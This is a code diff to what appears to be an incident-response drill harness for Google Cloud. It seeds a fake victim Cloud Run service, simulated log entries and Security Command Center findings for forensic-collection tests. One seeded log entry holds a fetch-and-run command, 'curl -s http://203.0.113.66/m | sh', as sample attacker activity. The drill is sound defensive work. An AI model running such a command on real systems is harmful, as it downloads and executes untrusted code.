@@ -60,6 +60,9 @@ class GcpVictim:
     network: str
     service_account: str
     disks: tuple[str, ...]
+    run_service: str
+    """A Cloud Run service of the workload (`projects/p/locations/l/services/s`)."""
+    run_account: str
 
 
 @dataclass(frozen=True)
@@ -118,6 +121,7 @@ def seed_victim(fake: FakeGcp, drill: str) -> GcpVictim:
             },
         }
     )
+    run_service, run_account = _seed_run_service(fake, drill, now)
     return GcpVictim(
         f"projects/{fake.project}/zones/{ZONE}/instances/{name}",
         ZONE,
@@ -125,7 +129,37 @@ def seed_victim(fake: FakeGcp, drill: str) -> GcpVictim:
         network,
         account,
         disks,
+        run_service,
+        run_account,
     )
+
+
+def _seed_run_service(fake: FakeGcp, drill: str, now: datetime) -> tuple[str, str]:
+    """A Cloud Run service whose container ran the attacker's command, and whose runtime account
+    then read a bucket: what `preserve-service` must collect."""
+    name, region = f"checkout-{drill}", ZONE.rsplit("-", 1)[0]
+    account = f"checkout-{drill}@{fake.project}.iam.gserviceaccount.com"
+    service = fake.run.add_service(region, name, account)
+    labels = {"service_name": name, "location": region, "revision_name": f"{name}-00001"}
+    base = f"projects/{fake.project}/logs"
+    fake.logging.entries += [
+        {
+            "logName": f"{base}/run.googleapis.com%2Fstdout",
+            "timestamp": (now - timedelta(minutes=15)).strftime("%Y-%m-%dT%H:%M:%SZ"),
+            "resource": {"type": "cloud_run_revision", "labels": labels},
+            "textPayload": "sh -c 'curl -s http://203.0.113.66/m | sh'",
+        },
+        {
+            "logName": f"{base}/cloudaudit.googleapis.com%2Fdata_access",
+            "timestamp": (now - timedelta(minutes=14)).strftime("%Y-%m-%dT%H:%M:%SZ"),
+            "resource": {"type": "gcs_bucket", "labels": {"bucket_name": "cards"}},
+            "protoPayload": {
+                "methodName": "storage.objects.get",
+                "authenticationInfo": {"principalEmail": account},
+            },
+        },
+    ]
+    return str(service["name"]), account
 
 
 class GcpFakeTarget(Target):
@@ -218,17 +252,36 @@ class GcpFakeTarget(Target):
 
 
 def finding_for(account: GcpAccount, when: datetime) -> dict[str, Any]:
-    """A HIGH Security Command Center finding on the victim, as the notification carries it."""
-    victim = account.victim
+    """A HIGH Security Command Center finding on the victim instance."""
+    return _finding(
+        account,
+        f"//compute.googleapis.com/{account.victim.instance}",
+        "Execution: Cryptocurrency Mining Hash Match",
+        when,
+    )
+
+
+def service_finding_for(account: GcpAccount, when: datetime) -> dict[str, Any]:
+    """A HIGH Security Command Center finding on the victim's Cloud Run service."""
+    return _finding(
+        account,
+        f"//run.googleapis.com/{account.victim.run_service}",
+        "Execution: Malicious script executed",
+        when,
+    )
+
+
+def _finding(account: GcpAccount, resource: str, category: str, when: datetime) -> dict[str, Any]:
+    """The notification Security Command Center publishes, as the stack's topic carries it."""
     project = f"projects/{account.fake.project}"
     return {
         "notificationConfigName": f"{project}/locations/global/notificationConfigs/"
         "prewire-findings",
         "finding": {
             "name": f"{project}/sources/1/locations/global/findings/{uuid.uuid4().hex}",
-            "resourceName": f"//compute.googleapis.com/{victim.instance}",
+            "resourceName": resource,
             "state": "ACTIVE",
-            "category": "Execution: Cryptocurrency Mining Hash Match",
+            "category": category,
             "severity": "HIGH",
             "eventTime": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
             "sourceProperties": {"prewire-drill": "true"},
